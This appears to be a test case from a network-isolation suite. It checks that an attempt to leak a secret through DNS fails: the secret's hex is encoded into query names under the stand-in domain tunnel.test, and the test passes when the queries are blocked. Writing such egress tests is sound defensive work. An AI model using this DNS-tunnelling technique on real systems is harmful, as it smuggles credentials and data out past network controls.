# tries: send data out in the names of questions
# control: blocked because the world only hears of allowed names
# blocked: not-asked
def send():
    for part in range(5):
        code, _ = resolved(f"data{part}-{secret()[:20].hex()}.tunnel.test")
        if code != 3:
            raise Blocked(f"code-{code}")
    if heard("tunnel.test"):
        return "the questions were heard outside"
    raise Blocked("not-asked")


def heard(what):
    """Whether the name server outside heard of it; it says so in a page of the allowed host."""
    return what.encode() in by_proxy("http://allowed.test/asked").split(b"\r\n\r\n", 1)[1].replace(b"GOOD", b"")


attempt(send)
